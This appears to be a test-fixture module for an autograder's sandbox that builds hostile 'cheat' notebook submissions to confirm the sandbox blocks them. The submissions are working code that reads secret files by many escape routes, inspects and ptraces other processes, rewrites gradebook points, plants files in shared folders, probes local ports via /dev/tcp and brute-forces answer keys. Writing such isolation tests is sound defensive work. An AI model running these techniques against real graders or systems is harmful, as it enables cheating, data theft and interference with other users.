"""Wrong answers and a hand outside the sandbox: disk, processes, network, other people's work.

Whatever such a submission finds it types as its answers, so that a leak shows twice: as points,
and as text in a report.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

from corpus import CLAIMS, WHERE, Hostile, Maker

# In the answer cells: what was found, or else the usual wrong answer.
FOUND = {
    "01.2": 'answer_2 = globals().get("found") or "troops-shift assad-out"',
    "01.3": 'answer_3 = globals().get("found") or "second-win offset heavy-blow"',
}
SOLVE = """
def solve(path):
    for cell in json.loads(Path(path).read_text())["cells"]:
        own = cell["metadata"].get("foothold", {})
        if own.get("role") == "answer" and cell["cell_type"] == "code":
            exec("".join(cell["source"]), globals())
            answers.update({k: v for k, v in globals().items() if k.startswith("answer_")})
answers = {}
def keep(*a):
    globals().update(answers)
get_ipython().events.register("pre_run_cell", keep)
"""
TRY = """
import contextlib, json, os, sys
from pathlib import Path
"""


def submissions(make: Maker) -> Iterator[Hostile]:
    """All submissions that reach out."""
    seen = make.canaries
    for name, (why, source) in {**_disk(make), **_processes(make), **_network(make)}.items():
        cell = TRY.strip() + "\n" + source.strip()
        yield make.submission("cheat", name, why, before=[cell], answers=FOUND)
    yield make.submission(
        "cheat", "magics-on-files", "magics and the shell read the secret and other notebooks",
        before=[f"loot = !cat {seen.secret} {seen.other}\nfound = ' '.join(loot)[:40]",
                f"%run {make.kit}/solutions/{CLAIMS}.ipynb",
                f"%load {seen.secret}", f"%%bash\ncat {seen.secret} > answer.txt\ncat answer.txt",
                f"%cd {make.kit}/solutions"],
        answers=FOUND,
    )  # fmt: skip
    yield from _keys(make)


def _disk(make: Maker) -> dict[str, tuple[str, str]]:
    seen, kit = make.canaries, str(make.kit)
    return {
        "solutions-from-disk": ("the solution is looked for on the disk and run", f"""{SOLVE}
from itertools import chain
roots = [{kit!r}, *sys.path, "..", "../..", "/", "/root", "/home", "/srv", "/tmp", "/work"]
for root in filter(None, roots):
    with contextlib.suppress(Exception):
        for path in [*Path(root).glob("solutions/{CLAIMS}.ipynb"),
                     *Path(root).glob("*/solutions/{CLAIMS}.ipynb")]:
            with contextlib.suppress(Exception):
                solve(path)"""),
        "other-submissions": ("another learner's file is looked for and run", f"""{SOLVE}
other = Path({str(seen.other)!r})
for path in [other, *other.parent.parent.glob("*/*.ipynb"), *Path("/tmp").glob("*/in/*/*.ipynb")]:
    with contextlib.suppress(Exception):
        solve(path)"""),
        "gradebook": ("the gradebook is opened, read and changed", f"""
import sqlite3
book = {str(seen.gradebook)!r}
for name in [book, book + "-wal", book + "-journal"]:
    with contextlib.suppress(Exception):
        found = Path(name).read_bytes() and "LEAKED-gradebook"
with contextlib.suppress(Exception):
    with sqlite3.connect(f"file:{{book}}?mode=rw", uri=True) as db:
        for (table,) in db.execute("select name from sqlite_master").fetchall():
            with contextlib.suppress(Exception):
                db.execute(f"update {{table}} set points = 99")"""),
        "secret-beside-the-gradebook": ("a secret is read in every way that opens a file", f"""
import ctypes, mmap, shutil, subprocess
secret = {str(seen.secret)!r}
libc = ctypes.CDLL(None)
def by_libc():
    fd = libc.open(secret.encode(), 0)
    return os.read(fd, 40).decode()
def by_link(link):
    link(secret, "link")
    return Path("link").read_text()
def by_descriptor():
    for fd in range(3, 300):
        with contextlib.suppress(OSError):
            return os.read(os.open(secret.lstrip("/"), os.O_RDONLY, dir_fd=fd), 40).decode()
        for up in ("../" * 3, "../" * 9):
            with contextlib.suppress(OSError):
                inner = os.open(up + secret.lstrip("/"), os.O_RDONLY, dir_fd=fd)
                return os.read(inner, 40).decode()
def by_namespace():
    shell = f"unshare -Urm sh -c 'mount --bind / /mnt; cat {{secret}} /mnt{{secret}}'"
    return subprocess.run(shell, shell=True, capture_output=True, text=True).stdout
for way in [lambda: Path(secret).read_text(), by_libc, lambda: by_link(os.symlink),
            lambda: by_link(os.link), by_descriptor, by_namespace,
            lambda: shutil.copy(secret, "copy") and Path("copy").read_text(),
            lambda: Path("/proc/self/root" + secret).read_text(),
            lambda: Path("/proc/1/root" + secret).read_text(),
            lambda: subprocess.run(["cat", secret], capture_output=True, text=True).stdout]:
    with contextlib.suppress(BaseException):
        found = globals().get("found") or way()"""),
        "left-in-shared-folders": ("files for the next submission, or for the machine", f"""
import foothold, site
for folder in ["/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/root", "/home", "..", "../..",
               {kit!r}, {kit + "/exercises"!r}, sys.prefix, *site.getsitepackages(),
               Path(foothold.__file__).parent, Path({str(seen.gradebook)!r}).parent,
               Path({str(seen.other)!r}).parent]:
    with contextlib.suppress(OSError):
        (Path(folder) / "{seen.marker}-file").write_text("{seen.marker}")
    with contextlib.suppress(OSError):
        (Path(folder) / "{seen.marker}-folder").mkdir()"""),
        "package-poisoned": ("the kit's own code is changed for those who come after", """
import foothold.exercises.show as show_module
for path in [show_module.__file__, show_module.__cached__, json.__file__, json.__cached__]:
    with contextlib.suppress(OSError), open(path, "r+b"):
        found = "LEAKED-writing"
""" + f"""
with contextlib.suppress(OSError):
    os.chmod({str(seen.secret)!r}, 0o777)
with contextlib.suppress(OSError):
    os.utime({str(seen.secret)!r}, (0, 0))"""),
    }  # fmt: skip


def _processes(make: Maker) -> dict[str, tuple[str, str]]:
    seen = make.canaries
    return {
        "grader-through-proc": ("environment, files and memory of the grader", f"""
for process in sorted(Path("/proc").glob("[0-9]*")):
    for what in ("environ", "cmdline", "maps", "root{seen.secret}", "cwd/secret.txt"):
        if process.name == str(os.getpid()):
            continue
        with contextlib.suppress(OSError):
            if b"SECRET" in (process / what).read_bytes():
                found = "LEAKED-" + what[:7]
    with contextlib.suppress(OSError):
        for link in (process / "fd").iterdir():
            if "sqlite" in os.readlink(link) and process.name != str(os.getpid()):
                found = link.read_bytes() and 'LEAKED-sqlite'"""),
        "own-environment": ("secrets that the grader's environment may hold", """
for name, value in os.environ.items():
    if "SECRET" in name or "SECRET" in value:
        found = 'LEAKED-environment'"""),
        "grader-traced": ("ptrace on the grader and on a stranger", f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for process in [os.getppid(), {seen.victim}]:
    if process > 1 and libc.ptrace(0x4206, process, None, None) == 0:  # SEIZE does not stop it
        found = 'LEAKED-trace'"""),
        "signals-to-strangers": ("signals to a process of somebody else, and to everybody", f"""
import signal
for process in [{seen.victim}, -1, -{seen.victim}]:
    with contextlib.suppress(OSError):
        os.kill(process, signal.SIGURG)
if hasattr(os, "pidfd_open"):
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open({seen.victim}), signal.SIGURG)"""),
        "priorities": ("a stranger is slowed down and offered to the memory killer", f"""
with contextlib.suppress(OSError):
    os.setpriority(os.PRIO_PROCESS, {seen.victim}, 19)
with contextlib.suppress(OSError):
    Path("/proc/{seen.victim}/oom_score_adj").write_text("1000")
"""),
    }  # fmt: skip


def _network(make: Maker) -> dict[str, tuple[str, str]]:
    port = make.canaries.port
    return {
        "network-tcp": ("a message to a TCP port of this machine, by Python and by bash", f"""
import socket, subprocess
for host in ["127.0.0.1", "localhost", "::1", socket.gethostname(), "0.0.0.0"]:
    with contextlib.suppress(Exception):
        with socket.create_connection((host, {port}), 0.5) as line:
            line.sendall(b"answers, please")
            found = "LEAKED-connection"
subprocess.run(["bash", "-c", "echo hello > /dev/tcp/127.0.0.1/{port}"], capture_output=True)"""),
        "network-udp": ("a message to a UDP port of this machine", f"""
import socket, subprocess
for family, host in [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")]:
    with contextlib.suppress(Exception):
        with socket.socket(family, socket.SOCK_DGRAM) as line:
            line.sendto(b"answers, please", (host, {port}))
subprocess.run(["bash", "-c", "echo hello > /dev/udp/127.0.0.1/{port}"], capture_output=True)"""),
        "network-listening": ("a door for those outside", f"""
import socket, threading, time
with contextlib.suppress(OSError):
    line = socket.create_server(("127.0.0.1", {port + 1}))
    threading.Thread(target=line.accept, daemon=True).start()
    time.sleep(1)"""),
    }  # fmt: skip


def _keys(make: Maker) -> Iterator[Hostile]:
    key = json.loads((make.kit / "exercises" / "keys" / f"{WHERE}.json").read_text("utf-8"))
    force = """
from itertools import product
from foothold.exercises import features, key as keys
def force(public, salt):
    for name, values in {"04.3": ["naval", "official", "permanent", "Syrian"],
                         "04.4": ["neither", "cargo-only", "warship-only", "ask-damascus"]}.items():
        for value in values:
            with contextlib.suppress(Exception):
                check = public[name]
                if keys.is_right(check, salt, features.read(check, value)):
                    guessed[check["answer"]] = value
guessed = {}
"""
    use = {"04.3": 'answer_3 = guessed.get("answer_3", "military")',
           "04.4": 'answer_4 = guessed.get("answer_4", "both")'}  # fmt: skip
    form = {"checks": {n: key["checks"][n] for n in ("04.3", "04.4")}, "salt": key["salt"]}
    brought = f"key = json.loads({json.dumps(form)!r})\nforce(key['checks'], key['salt'])"
    yield make.submission(
        "cheat", "key-brought-along", "the public key is tried on questions that it only records",
        set_name=WHERE, before=[TRY + force + brought], answers=use,
    )  # fmt: skip
    numbers = f"""
guessed = {{}}
from foothold.exercises import features, key as keys, selfcheck
with contextlib.suppress(Exception):
    folders = [*selfcheck.key_folders(), Path({str(make.kit)!r}) / "exercises" / "keys"]
    key = json.loads(next(p for f in folders for p in f.glob("{WHERE}.json")).read_text())
    check = key["checks"]["04.1"]
    for number in range(0, 4000, 5):
        if keys.is_right(check, key["salt"], features.read(check, number)):
            guessed["answer_1"] = number
"""
    yield make.submission(
        "cheat", "key-found-and-forced", "the public key is looked for and numbers are tried",
        set_name=WHERE, before=[TRY + numbers],
        answers={"04.1": 'answer_1 = guessed.get("answer_1", 1763)'},
    )  # fmt: skip
